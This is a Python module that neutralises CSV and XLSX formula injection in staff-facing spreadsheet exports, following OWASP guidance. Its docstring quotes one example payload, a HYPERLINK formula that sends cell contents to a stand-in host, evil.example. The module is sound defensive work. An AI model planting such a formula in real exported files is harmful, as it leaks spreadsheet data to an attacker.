"""Spreadsheet-safe text: cells that Excel, WPS or LibreOffice show as text, never run.

Department names, categories, item texts, rater group names and titles are typed by staff
and end up in the CSV and XLSX files other staff open. A spreadsheet takes a cell that starts
with ``=``, ``+``, ``-`` or ``@`` (and, in some programs, a tab or carriage return) for a
formula, so a name such as ``=HYPERLINK("http://evil.example/?x="&A1,"x")`` would send the
sheet's contents away when the file is opened (CSV or formula injection, CWE-1236).

Following OWASP's guidance on CSV injection, every exporter writes its cells through here:

- CSV: a text cell whose first character is one of :data:`FORMULA_TRIGGERS` gets a single
  quote in front (``'=HYPERLINK(…)``), which spreadsheets show as text and do not keep as
  part of a formula. A cell that is just a number (``-0.5``, ``+3``) is left alone: it is a
  figure, and a number runs nothing.
- XLSX: text is stored as a string cell (openpyxl would otherwise store a string starting
  with ``=`` as a formula), so it reads back exactly as typed; a formula-leading one also
  carries the "quote prefix" style, so editing the cell in Excel keeps it text. Numbers stay
  numbers, negative ones included.

The full-width forms of the four signs (＝＋－＠), which Chinese input methods type, are
treated the same way as a precaution, and so is a NUL character (OWASP ASVS 1.2.10).
"""

import re
from collections.abc import Iterable
from typing import Any

FORMULA_TRIGGERS = frozenset("=+-@\t\r\0\uff1d\uff0b\uff0d\uff20")
CSV_TEXT_PREFIX = "'"
# Text openpyxl stores as an error value rather than a string (openpyxl.cell.cell.ERROR_CODES).
ERROR_CODES = frozenset({"#NULL!", "#DIV/0!", "#VALUE!", "#REF!", "#NAME?", "#NUM!", "#N/A"})
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def formula_leading(text: str) -> bool:
    """Whether a spreadsheet could take ``text`` for a formula (by its first character)."""
    return bool(text) and text[0] in FORMULA_TRIGGERS


def csv_text(text: str) -> str:
    """A CSV cell for ``text``: prefixed with a single quote when it could start a formula,
    unless it is a plain number."""
    if formula_leading(text) and _PLAIN_NUMBER.fullmatch(text) is None:
        return CSV_TEXT_PREFIX + text
    return text


def csv_row(cells: Iterable[str]) -> list[str]:
    """A CSV row with every cell made safe by :func:`csv_text`."""
    return [csv_text(cell) for cell in cells]


def xlsx_text(worksheet: Any, text: str) -> Any:
    """A write-only cell that holds ``text`` as a string, never a formula or an error value."""
    from openpyxl.cell import WriteOnlyCell  # type: ignore[import-untyped]  # slow to import

    cell = WriteOnlyCell(worksheet, value=text)
    cell.data_type = "s"
    if formula_leading(text):
        cell.quotePrefix = True
    return cell


def xlsx_value(worksheet: Any, value: object) -> object:
    """What to append for ``value`` in a write-only worksheet: text that openpyxl would store
    as a formula or an error value (or that could start one when edited) as a string cell;
    anything else, numbers included, unchanged."""
    if isinstance(value, str) and (formula_leading(value) or value in ERROR_CODES):
        return xlsx_text(worksheet, value)
    return value


def xlsx_row(worksheet: Any, values: Iterable[object]) -> list[object]:
    """A row for ``worksheet.append`` with every value made safe by :func:`xlsx_value`."""
    return [xlsx_value(worksheet, value) for value in values]
